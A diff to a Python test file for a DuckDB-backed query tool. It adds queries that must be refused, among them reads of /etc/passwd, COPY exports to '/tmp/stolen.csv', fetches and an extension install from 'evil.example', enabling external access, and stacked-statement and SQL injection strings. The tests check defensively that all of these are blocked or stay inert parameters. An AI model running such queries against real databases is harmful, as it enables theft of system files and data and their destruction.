@@ -14,7 +14,7 @@ from click.testing import CliRunner
 from claims.cli.main import cli
 from claims.errors import ClaimsError
 from claims.store.publish import publish
-from claims.store.query import ask, connect, named_queries
+from claims.store.query import ask, connect, named_queries, one_line, stream
 from claims.store.store import Store
 from claims.store.verdicts import decide, verdicts_file
 from tests.store.build import batch
@@ -76,6 +76,40 @@ def test_named_queries_say_what_they_answer() -> None:
         "CHECKPOINT",
         "CALL pragma_version()",
         "EXPLAIN ANALYZE COPY (SELECT 1) TO '/tmp/stolen.csv'",
+        "EXPLAIN ANALYZE FROM read_text('/etc/passwd')",
+        "FROM query('COPY (SELECT 1) TO ''/tmp/stolen.csv''')",
+        "FROM query('FROM read_text(''/etc/passwd'')')",
+        "FROM read_csv_auto('/etc/passwd')",
+        "FROM read_json('/etc/passwd')",
+        "FROM read_parquet('/etc/passwd')",
+        "FROM parquet_metadata('/etc/passwd')",
+        "FROM read_blob('/etc/passwd')",
+        "FROM sniff_csv('/etc/passwd')",
+        "FROM read_csv('https://evil.example/x.csv')",
+        "FROM read_duckdb('/tmp/other.duckdb')",
+        "FROM sqlite_scan('/tmp/x.db', 't')",
+        "FROM 'https://evil.example/x.parquet'",
+        "SELECT getenv('HOME')",
+        "PRAGMA enable_external_access = true",
+        "SET SESSION enable_external_access = true",
+        "SET GLOBAL allow_unsigned_extensions = true",
+        "SET VARIABLE a = 1",
+        "FORCE INSTALL spatial FROM 'https://evil.example'",
+        "CREATE SECRET s (TYPE s3)",
+        "CREATE OR REPLACE TEMP VIEW findings AS SELECT 1",
+        "CREATE MACRO m() AS 1",
+        "ALTER TABLE store.claims RENAME TO c",
+        "TRUNCATE store.claims",
+        "MERGE INTO store.meta USING store.meta s ON true WHEN MATCHED THEN DELETE",
+        "VACUUM",
+        "USE memory",
+        "DETACH claims",
+        "BEGIN",
+        "PREPARE p AS SELECT 1",
+        "IMPORT DATABASE '/tmp/all'",
+        "WITH x AS (DELETE FROM store.meta RETURNING *) FROM x",
+        "SELECT * FROM claims; COPY claims TO '/tmp/stolen.csv'",
+        "/* */ COPY claims TO '/tmp/stolen.csv'",
         "SELECT * FROM known",
         "SELECT nothing FROM claims",
         "SELEC 1",
@@ -86,10 +120,17 @@ def test_named_queries_say_what_they_answer() -> None:
 )
 def test_refused_with_one_line(con: duckdb.DuckDBPyConnection, query: str) -> None:
     with pytest.raises(ClaimsError) as caught:
-        ask(con, query).fetchall()
+        answered(con, query)
     assert 5 < len(str(caught.value)) < 700
     assert "\n" not in str(caught.value)
     assert not Path("/tmp/stolen.csv").exists()
+
+
+def answered(con: duckdb.DuckDBPyConnection, query: str) -> None:
+    try:
+        ask(con, query).fetchall()
+    except duckdb.Error as error:  # found only while it answers: the command line tells it in one line too
+        raise ClaimsError(one_line(error)) from None
 
 
 def test_reading_in_every_way_is_allowed(con: duckdb.DuckDBPyConnection) -> None:
@@ -156,3 +197,22 @@ def test_the_docs_explain_every_column(con: duckdb.DuckDBPyConnection, view: str
     section = page.partition(f"## `{view}`")[2].partition("\n## ")[0]
     named = set(re.findall(r"`(\w+)`", "".join(re.findall(r"^\| (`.*?) \|", section, re.M))))
     assert set(ask(con, f"FROM {view}").columns) == named
+
+
+def test_the_docs_list_every_named_query() -> None:
+    page = (Path(__file__).parents[2] / "docs" / "queries.md").read_text(encoding="utf-8")
+    for named in named_queries():
+        takes = ", ".join(f"`{name}`" for name in named.parameters)
+        assert f"| `{named.name}` | {named.about} | {takes} |" in page
+
+
+def test_parameters_narrow_and_are_only_values(con: duckdb.DuckDBPyConnection) -> None:
+    assert ask(con, "place", {"place": "aden"}).fetchall()
+    assert not ask(con, "place", {"place": "' OR 1=1 --"}).fetchall()
+    assert stream(con, "SELECT $a || 'b'", {"a": "'; DROP TABLE store.claims; --"}).fetchall() == [
+        ("'; DROP TABLE store.claims; --b",)
+    ]
+    with pytest.raises(ClaimsError, match="no parameter 'city'; it takes place"):
+        ask(con, "place", {"city": "Aden"})
+    with pytest.raises(ClaimsError):
+        ask(con, "SELECT $a")  # nothing stands for it
